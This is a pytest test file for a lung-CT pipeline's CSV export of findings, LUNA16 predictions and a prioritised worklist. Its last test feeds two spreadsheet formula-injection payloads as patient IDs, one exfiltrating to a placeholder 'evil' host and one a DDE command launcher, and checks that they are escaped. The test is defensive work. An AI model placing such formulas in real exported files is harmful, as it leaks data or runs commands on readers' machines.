import csv

import pytest

from hounsfield.pipeline.batch.csv_tables import FINDINGS_COLUMNS, read_worklist, write_tables
from hounsfield.pipeline.batch.ledger import Ledger, Row
from tests.pipeline.scripted import make_report


def record(out, series_uid, scores, **series):
    folder = f"studies/1/{series_uid}"
    (out / folder).mkdir(parents=True)
    report = make_report("1", series_uid, scores=scores, **series)
    (out / folder / "report.json").write_text(report.as_json())
    with Ledger(out) as ledger:
        ledger.record([Row(series_uid, "1", series_uid, 1, "analysed", folder=folder)])


def read(path):
    with path.open(newline="") as file:
        return list(csv.reader(file))


@pytest.fixture
def tables(tmp_path):
    for series_uid, scores in (("1.1", (0.4,)), ("1.2", (0.9, 0.6)), ("1.3", ())):
        record(tmp_path, series_uid, scores)
    with Ledger(tmp_path) as ledger:
        ledger.record([Row("x", "9", "9.1", 1, "failed", "truncated")])
        write_tables(tmp_path, ledger, on_unreadable=pytest.fail)
    return tmp_path


def test_findings_csv_has_the_columns_of_the_design_in_their_order(tables):
    header, *rows = read(tables / "findings.csv")
    design = (
        "study_uid, series_uid, finding, x_mm, y_mm, z_mm, diameter_mm, score, class, "
        "p_adenocarcinoma, p_large_cell_carcinoma, p_squamous_cell_carcinoma, p_normal, "
        "confidence_band, malignancy, lung, zone, volume_mm3, texture, lung_rads"
    )
    assert header == list(FINDINGS_COLUMNS) == design.split(", ")
    named = dict(zip(header, rows[0], strict=True))
    assert named["series_uid"] == "1.1"
    assert (named["x_mm"], named["y_mm"], named["z_mm"]) == ("10.0", "-20.0", "30.5")
    assert (named["class"], named["confidence_band"]) == ("large_cell_carcinoma", "review")
    assert (named["p_large_cell_carcinoma"], named["p_normal"]) == ("0.62", "0.08")
    assert (named["lung"], named["zone"], named["volume_mm3"]) == ("left", "upper", "")
    assert len(rows) == 3


def test_luna16_predictions_hold_every_candidate_kept_or_not(tables):
    header, *rows = read(tables / "luna16_predictions.csv")
    assert header == ["seriesuid", "coordX", "coordY", "coordZ", "probability"]
    assert len(rows) == 6
    assert ["1.3", "1.0", "2.0", "3.0", "0.01"] in rows


def test_the_worklist_starts_with_the_highest_score_and_ends_with_what_failed(tables):
    _, *rows = read(tables / "worklist.csv")
    assert [row[1] for row in rows] == ["1.2", "1.1", "1.3", "9.1"]


def test_the_worklist_holds_the_class_of_each_study_that_was_analysed(tables):
    header, *rows = read(tables / "worklist.csv")
    found, _, nothing, failed = (dict(zip(header, row, strict=True)) for row in rows)
    assert (found["study_class"], found["confidence_band"]) == ("large_cell_carcinoma", "review")
    assert (found["p_large_cell_carcinoma"], found["p_normal"]) == ("0.62", "0.08")
    assert (nothing["study_class"], nothing["p_normal"]) == ("normal", "")
    assert (failed["study_class"], failed["confidence_band"]) == ("", "")


@pytest.mark.parametrize("content", [None, '{"version": 99}', '{"version": 2', "\xff"])
def test_a_report_that_cannot_be_read_keeps_its_row_and_leaves_the_others_whole(tmp_path, content):
    record(tmp_path, "1.1", (0.4,))
    record(tmp_path, "1.2", (0.9,))
    damaged = tmp_path / "studies/1/1.1/report.json"
    damaged.unlink()
    if content is not None:
        damaged.write_bytes(content.encode("latin-1"))
    told = []
    with Ledger(tmp_path) as ledger:
        write_tables(tmp_path, ledger, on_unreadable=told.append)
    assert len(told) == 1
    assert "1.1/report.json" in told[0]
    assert [row[1] for row in read(tmp_path / "findings.csv")[1:]] == ["1.2"]
    header, *rows = read(tmp_path / "worklist.csv")
    whole, unknown = (dict(zip(header, row, strict=True)) for row in rows)
    assert (whole["series_uid"], whole["findings"]) == ("1.2", "1")
    assert (unknown["series_uid"], unknown["verdict"]) == ("1.1", "analysed")
    assert (unknown["findings"], unknown["study_class"]) == ("", "")  # unknown, not zero


@pytest.mark.parametrize(
    "patient_id", ['=HYPERLINK("http://evil/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0"]
)
def test_a_patient_id_is_no_formula_and_is_read_back_unchanged(tmp_path, patient_id):
    record(tmp_path, "1.1", (0.4,), patient_id=patient_id)
    with Ledger(tmp_path) as ledger:
        write_tables(tmp_path, ledger, on_unreadable=pytest.fail)
    assert read(tmp_path / "worklist.csv")[1][2] == f"'{patient_id}"
    assert [row["patient_id"] for row in read_worklist(tmp_path)] == [patient_id]
